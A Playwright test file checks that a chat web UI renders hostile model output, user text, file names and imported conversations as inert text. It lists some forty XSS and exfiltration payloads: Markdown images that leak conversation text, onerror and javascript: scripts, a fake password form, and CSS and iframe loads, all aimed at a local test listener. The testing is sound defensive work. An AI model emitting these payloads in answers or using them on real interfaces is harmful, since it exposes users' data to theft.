"""The chat window in real headless Chromium, fed hostile text from every side.

A scripted engine replays answers, thinking and grounding text we wrote to attack the page; the
user's own message, the names of uploaded files and the fields of an imported conversation carry
more. A loopback listener stands for the outside world: every payload points at it. Afterwards
the listener has heard nothing but the test's own barrier, no script ran (``alert``, ``confirm``
and ``prompt`` are hooked before the page loads), no form control is drawn inside a message, and
the markup shows as text. Ordinary answers (Markdown, code, LaTeX, a table, a link, a corpus
output, a page with its sealed preview) still render as they did, under the page's CSP.

A file URL the page was given (the upload strip, the drawn boxes, the exported conversation)
opens in that browser and answers 404 to another browser and to a request without cookies.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import BrowserContext, Page, expect

from glmv_ui.config import AppConfig
from glmv_ui.conversation import Conversation, Turn
from glmv_ui.engines.scripted import ScriptedEngine
from glmv_ui.export import to_json
from glmv_ui.media.parts import MediaPart
from glmv_ui.reasons import reason
from glmv_ui.ui.i18n import t
from glmv_ui.ui.web import CSP
from tests.mediafiles import shapes_image
from tests.preview_attacks import Listener

pytestmark = [pytest.mark.browser, pytest.mark.slow]

HOOKS = """
window.__fired = [];
for (const name of ['alert', 'confirm', 'prompt', 'print']) {
  window[name] = (...args) => { window.__fired.push(name + ':' + String(args[0])); };
}
"""
# A message's own content, where model and user text is drawn (not the Chatbot's own buttons).
MESSAGE = "#glmv-chat .message-content, #glmv-chat .md, #glmv-chat .prose"
# Gradio's own copy button on code blocks is the one control a message may hold.
CONTROLS = "input, button:not(.copy_code_button), textarea, select, form, iframe, object, embed"


def _payloads(base: str) -> list[tuple[str, str]]:
    """(name, text) of hostile snippets, each aimed at the listener at ``base``."""
    u = base
    return [
        ("md-image", f"![leak]({u}/md-image?leak=secret_conversation_text)"),
        ("md-image-title", f'![t]({u}/md-title "title")'),
        ("md-image-angle", f"![a](<{u}/md-angle>)"),
        ("md-image-ref", f"![ref][r1]\n\n[r1]: {u}/md-ref"),
        ("md-image-shortcut", f"![r2]\n\n[r2]: {u}/md-shortcut"),
        ("md-image-nested", f"[![in]({u}/md-nested)]({u}/md-nested-link)"),
        ("img", f'<img src="{u}/img">'),
        ("img-case", f"<ImG sRc={u}/img-case>"),
        ("img-onerror", "<img src=x onerror=alert(1)>"),
        ("img-srcset", f'<img srcset="{u}/srcset 1x">'),
        ("picture", f'<picture><source srcset="{u}/picture"><img></picture>'),
        ("svg-image", f'<svg><image href="{u}/svg-image" /></svg>'),
        ("svg-onload", "<svg onload=alert(1)>"),
        ("svg-use", f'<svg><use href="{u}/svg-use#x"/></svg>'),
        ("video", f'<video src="{u}/video" autoplay></video>'),
        ("video-poster", f'<video poster="{u}/poster"></video>'),
        ("audio", f'<audio src="{u}/audio" autoplay></audio>'),
        ("input-image", f'<input type=image src="{u}/input-image">'),
        (
            "form",
            f'<form action="{u}/form"><input name=password type=password>'
            "<button>Sign in</button></form>",
        ),
        ("textarea", "<textarea>type here</textarea><select><option>a</select>"),
        ("style-attr", f'<div style="background:url({u}/style-attr)">bg</div>'),
        ("style-tag", f"<style>@import url({u}/style-tag);</style>"),
        ("link-css", f'<link rel=stylesheet href="{u}/link-css">'),
        ("iframe", f'<iframe src="{u}/iframe"></iframe>'),
        ("object", f'<object data="{u}/object"></object><embed src="{u}/embed">'),
        ("meta-refresh", f'<meta http-equiv="refresh" content="0;url={u}/meta">'),
        ("base", f'<base href="{u}/base/">'),
        ("script", "<script>alert(1)</script>"),
        ("js-link", "[click](javascript:alert(1))"),
        ("entity-js", '<a href="&#106;avascript:alert(1)">x</a>'),
        ("entity-tag", "&lt;img src=x onerror=alert(1)&gt; &#60;b&#62;"),
        ("comment", f"<!--><img src={u}/comment>-->"),
        ("cdata", f"<![CDATA[><img src={u}/cdata>]]>"),
        ("broken-quote", f'<img """><img src={u}/quote>">'),
        ("null-split", f"<img\x00 src={u}/null>"),
        ("tab-split", f"<img\tsrc={u}/tab>"),
        ("slash-split", f"<img/src={u}/slash>"),
        ("escaped-tick", f"\\`<img src={u}/tick>`"),
        ("link-dest-tick", f"[x](u`)<img src={u}/dest>`)"),
        ("list-fence", f"- item\n  ```\n<img src={u}/list-fence>\n  ```"),
        ("autolink", f"<{u}/autolink>"),
        ("math-html", f"$x<img src={u}/math>$"),
        ("details", "<details open ontoggle=alert(1)><summary>s</summary>d</details>"),
        ("mark-spoof", f'<mark class="glmv-box"><img src={u}/mark></mark>'),
    ]


THINK_NAMES = ("md-image", "img", "svg-image", "form", "md-image-ref", "video", "srcset")
USER_NAMES = ("md-image", "img-case", "form", "picture", "style-attr", "audio")
IMPORT_NAMES = ("md-image", "img", "svg-image", "form", "input-image")


def _by(names: tuple[str, ...], payloads: list[tuple[str, str]]) -> str:
    table = dict(payloads)
    return "\n\n".join(table[n] if n in table else table["img-srcset"] for n in names)


@pytest.fixture
def listener() -> Iterator[Listener]:
    ear = Listener()
    yield ear
    ear.close()


def _context(chromium: Any) -> BrowserContext:
    context: BrowserContext = chromium.new_context(viewport={"width": 1400, "height": 1000})
    context.add_init_script(HOOKS)
    return context


def _open(context: BrowserContext, url: str) -> Page:
    page = context.new_page()
    page.set_default_timeout(60_000)
    page.goto(url)
    expect(page.locator("#glmv-model-status")).to_contain_text("scripted")
    return page


def _send(page: Page, text: str, files: list[Path] | None = None) -> None:
    if files:
        page.locator("#glmv-input input[type=file]").set_input_files([str(f) for f in files])
        expect(page.locator("#glmv-attach-preview img")).to_have_count(1)
    page.locator("#glmv-input textarea").fill(text)
    page.locator("#glmv-input textarea").press("Enter")


def _settled(listener: Listener, context: BrowserContext) -> list[bytes]:
    """Everything the listener heard before a barrier sent from a plain page of the same
    browser arrived (the app's page itself may not connect anywhere under its CSP)."""
    plain = context.new_page()
    plain.evaluate(
        "url => fetch(url, {mode: 'no-cors'}).catch(() => {})",
        f"http://127.0.0.1:{listener.tcp_port}/barrier",
    )
    assert listener.wait(lambda hits: any(b"/barrier" in h.data for h in hits), 30)
    plain.close()
    return [bytes(h.data) for h in listener.hits if b"/barrier" not in h.data]


def _assert_nothing_live(page: Page) -> None:
    assert page.evaluate("window.__fired") == []
    controls = page.locator(MESSAGE).locator(CONTROLS)
    around = "e => e.parentElement.parentElement.outerHTML.slice(0, 3000)"
    assert controls.count() == 0, [
        controls.nth(i).evaluate(around) for i in range(controls.count())
    ]
    images = page.locator(MESSAGE).locator("img, image, video, audio, source, picture, svg")
    srcs = images.evaluate_all("els => els.map(e => e.outerHTML.slice(0, 200))")
    assert all("127.0.0.1:" not in s or "/gradio_api/file=" in s for s in srcs), srcs


def test_hostile_text_stays_text(
    tmp_path: Path, launch_app: Any, chromium: Any, listener: Listener
) -> None:
    base = f"http://127.0.0.1:{listener.tcp_port}"
    payloads = _payloads(base)
    assert len(payloads) >= 40
    answer = "\n\n".join(f"P-{name}: {text}" for name, text in payloads)
    thinking = _by(THINK_NAMES, payloads)
    grounding = (
        "<think>" + _by(("md-image", "img"), payloads) + "</think><answer>"
        f"The square <|begin_of_box|>[80,120,420,560]<|end_of_box|> is "
        f"<|begin_of_box|><img src={base}/in-box>[560,300,900,800]<|end_of_box|>.\n"
        f'{{"label": "<img src={base}/label onerror=alert(1)>", '
        '"bbox_2d": [100, 100, 300, 300]}\n'
        f"CLICK(point=(214, 100), box=[[198,92,229,107]], "
        f"element_info='![e]({base}/element-info)')\n"
        f"left_click(start_box='[500,500]') <form action={base}/act><input name=q></form>"
        "</answer>"
    )
    engine = ScriptedEngine(
        "glm4v", [f"<think>{thinking}</think><answer>{answer}</answer>", grounding], chunk_size=97
    )
    demo = launch_app(AppConfig(model="glm4v", engine="scripted"), engine)
    hostile_name = shapes_image(tmp_path, "<img src=x onerror=alert(1)>![n](x).png")
    control = ""
    with _context(chromium) as context:
        # The listener hears this browser: an image on a page without the app's policy.
        plain = context.new_page()
        plain.evaluate("url => { new Image().src = url; }", f"{base}/control")
        assert listener.wait(lambda hits: any(b"/control" in h.data for h in hits), 30)
        plain.close()
        control = "heard"
        listener.hits.clear()

        page = _open(context, demo.local_url)
        chat = page.locator("#glmv-chat")
        # 1. answer and thinking, from a user message that is hostile too
        _send(page, _by(USER_NAMES, payloads))
        expect(chat).to_contain_text("P-mark-spoof")
        expect(chat).to_contain_text("generated")  # the stats line: the reply is finished
        chat.get_by_text(str(reason("thinking.done"))).first.click()  # open the thinking
        expect(chat).to_contain_text("svg-image")
        text = chat.inner_text()
        for shown in (
            '<img src="',
            "<form action=",
            "<svg><image href=",
            "<script>alert(1)",
            "<iframe src=",
            "<textarea>",
            "<video src=",
            "javascript:alert(1)",
        ):
            assert shown in text, shown
        expect(chat).to_contain_text("image on 127.0.0.1, not loaded")
        _assert_nothing_live(page)

        # 2. grounding: boxes, labels and actions drawn on an upload with a hostile name
        _send(page, "Where is it?", [hostile_name])
        # The browser drops some characters from an uploaded file's name; the rest is text.
        expect(chat).to_contain_text(re.compile(r"Boxes drawn on [^\n]*onerror=alert\(1\)"))
        expect(chat.locator(".glmv-swatch").first).to_be_visible()
        expect(chat).to_contain_text("<img src=" + base + "/label onerror=alert(1)>")
        _assert_nothing_live(page)

        # 3. an imported conversation whose fields are hostile
        _import(page, tmp_path, payloads)
        expect(chat).to_contain_text("P-import-text")
        expect(chat).to_contain_text("P-import-error")
        _assert_nothing_live(page)
        heard = _settled(listener, context)
    assert control == "heard"
    assert heard == [], [h[:200] for h in heard]


def _import(page: Page, tmp: Path, payloads: list[tuple[str, str]]) -> None:
    from PIL import Image

    image = Image.new("RGB", (64, 48), "#c00")
    hostile = _by(IMPORT_NAMES, payloads)
    turns = [
        Turn(
            text="P-import-text " + hostile,
            parts=[MediaPart(kind="image", source=hostile.replace("\n", " ")[:200], image=image)],
            raw=f"<think>{hostile}</think><answer>P-import-raw {hostile} "
            "<|begin_of_box|>[100,100,400,400]<|end_of_box|></answer>",
        ),
        Turn(text="second", raw="", status="error", error="P-import-error " + hostile),
    ]
    data = json.loads(to_json(Conversation(turns, model="scripted")))
    path = tmp / "hostile.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    page.get_by_text(t("en", "export"), exact=True).first.click()
    page.locator("input[type=file][accept*='.json']").set_input_files(str(path))
    expect(page.locator("#glmv-notice")).to_contain_text("Imported 2")


def _plain_words(raw: str) -> str:
    """A run of plain words from the answer of ``raw``: it must show as written."""
    from glmv_ui.reply import Reply

    runs = re.findall(r"[A-Za-z][A-Za-z ,]{30,}[A-Za-z]", Reply.from_raw(raw).answer)
    assert runs
    return max(runs, key=len)[:60].strip()


ORDINARY = (
    "<think>Plain thinking with *emphasis*.</think><answer># Result\n\n"
    "Here is **bold**, a [link](https://example.org/docs) and `inline <code>`.\n\n"
    "```python\nprint('<b>not bold</b>')\n```\n\n"
    "| x | y |\n|---|---|\n| 1 | 2 |\n\n"
    "Euler: $e^{i\\pi} + 1 = 0$ and a<br>break, H<sub>2</sub>O.</answer>"
)
PAGE = (
    "<think>A page.</think><answer>Here it is:\n<!DOCTYPE html>\n<html><head><title>Demo"
    '</title></head><body><h1 id="hero">Hello preview</h1><script>document.getElementById'
    "('hero').dataset.ran = '1'</script></body></html>\nDone.</answer>"
)


def test_ordinary_answers_and_files_under_the_policy(
    tmp_path: Path, launch_app: Any, chromium: Any, corpus: Path, listener: Listener
) -> None:
    corpus_raw = (corpus / "raw_outputs" / "cm01_glm_41v_9b_thinking.txt").read_text("utf-8")
    box = (
        "<think>Boxes.</think><answer>The square <|begin_of_box|>[80,120,420,560]"
        "<|end_of_box|>.</answer>"
    )
    engine = ScriptedEngine("glm4v", [ORDINARY, corpus_raw, box, PAGE], chunk_size=64)
    demo = launch_app(AppConfig(model="glm4v", engine="scripted"), engine)
    image = shapes_image(tmp_path)
    violations: list[str] = []
    streams: list[dict[str, str]] = []
    with _context(chromium) as context:
        context.add_init_script(
            "document.addEventListener('securitypolicyviolation', e => "
            "{ (window.__csp = window.__csp || []).push(e.violatedDirective + ' ' + "
            "e.blockedURI); });"
        )
        page = context.new_page()
        page.set_default_timeout(60_000)
        page.on("response", lambda r: streams.append(r.headers) if "/queue/data" in r.url else None)
        response = page.goto(demo.local_url)
        assert response is not None
        assert response.headers["content-security-policy"] == CSP
        expect(page.locator("#glmv-model-status")).to_contain_text("scripted")
        chat = page.locator("#glmv-chat")

        _send(page, "Show me Markdown")
        expect(chat.locator("h1", has_text="Result")).to_be_visible()
        expect(chat.locator("strong", has_text="bold")).to_be_visible()
        expect(chat.locator("a[href='https://example.org/docs']")).to_be_visible()
        expect(chat.locator("code", has_text="inline <code>")).to_be_visible()
        expect(chat.locator("pre code")).to_contain_text("print('<b>not bold</b>')")
        expect(chat.locator("table td", has_text="2")).to_be_visible()
        expect(chat.locator(".katex").first).to_be_visible()  # KaTeX under the CSP
        expect(chat.locator("sub", has_text="2")).to_be_visible()
        expect(chat).to_contain_text("generated")
        # the answer's stream carried the policy too
        assert streams
        assert all(h.get("content-security-policy") == CSP for h in streams)

        _send(page, "A corpus answer")
        expect(chat).to_contain_text(_plain_words(corpus_raw))
        expect(chat.locator(".glmv-stats")).to_have_count(2)  # that reply has finished

        _send(page, "Boxes", [image])
        expect(chat).to_contain_text("Boxes drawn on shapes.png")
        expect(chat.locator(".glmv-stats")).to_have_count(3)
        figures = chat.locator("img[src*='/gradio_api/file=']")
        expect(figures).to_have_count(2)  # the upload strip and the drawn boxes
        for i in range(2):
            figures.nth(i).scroll_into_view_if_needed()
            expect(figures.nth(i)).to_have_js_property("complete", True)
            assert figures.nth(i).evaluate("e => e.naturalWidth") > 100
        urls = figures.evaluate_all("els => els.map(e => e.src)")

        _send(page, "A page")
        # The page sits in a frame of its own inside the sealed preview frame.
        hero = (
            page.frame_locator("#glmv-html-preview iframe").frame_locator("iframe").locator("#hero")
        )
        expect(hero).to_have_text("Hello preview")
        expect(hero).to_have_attribute("data-ran", "1")  # its script ran

        page.get_by_text(t("en", "export"), exact=True).first.click()
        page.get_by_role("button", name=t("en", "export_button")).click()
        link = page.locator("a[href*='conversation.json']").first
        expect(link).to_be_attached()
        urls.append(str(link.get_attribute("href")))

        # A remote image written straight into the page is refused by the policy, too.
        page.evaluate(
            "url => { const i = new Image(); i.src = url; document.body.appendChild(i); }",
            f"http://127.0.0.1:{listener.tcp_port}/injected",
        )
        page.wait_for_function("(window.__csp || []).some(v => v.includes('/injected'))")
        violations = page.evaluate("window.__csp || []")
        assert [v for v in violations if "/injected" not in v] == []
        assert page.evaluate("window.__fired") == []
        heard = _settled(listener, context)
        assert heard == []

        own = [context.request.get(u).status for u in urls]
        with _context(chromium) as other:
            stranger = _open(other, demo.local_url)
            theirs = [stranger.request.get(u).status for u in urls]
        bare = [httpx.get(u).status_code for u in urls]
    assert own == [200, 200, 200]
    assert theirs == [404, 404, 404]
    assert bare == [404, 404, 404]


def test_two_browsers_at_once_see_only_their_own_files(
    launch_app: Any, chromium: Any, tmp_path: Path
) -> None:
    """Two browsers upload at the same time: each thumbnail opens for its own browser only."""
    engine = ScriptedEngine("glm4v", chunk_size=64)
    demo = launch_app(AppConfig(model="glm4v", engine="scripted", concurrency=2), engine)
    images = [shapes_image(tmp_path, "one.png"), shapes_image(tmp_path, "two.png")]
    with _context(chromium) as first, _context(chromium) as second:
        pages = [_open(first, demo.local_url), _open(second, demo.local_url)]
        for page, image in zip(pages, images, strict=True):
            page.locator("#glmv-input input[type=file]").set_input_files(str(image))
        srcs = []
        for page in pages:
            shown = page.locator("#glmv-attach-preview img")
            expect(shown).to_have_count(1)
            expect(shown).to_have_js_property("complete", True)
            assert shown.evaluate("e => e.naturalWidth") > 0
            srcs.append(str(shown.get_attribute("src")))
        assert srcs[0] != srcs[1]
        assert first.request.get(srcs[0]).status == 200
        assert second.request.get(srcs[1]).status == 200
        assert first.request.get(srcs[1]).status == 404
        assert second.request.get(srcs[0]).status == 404
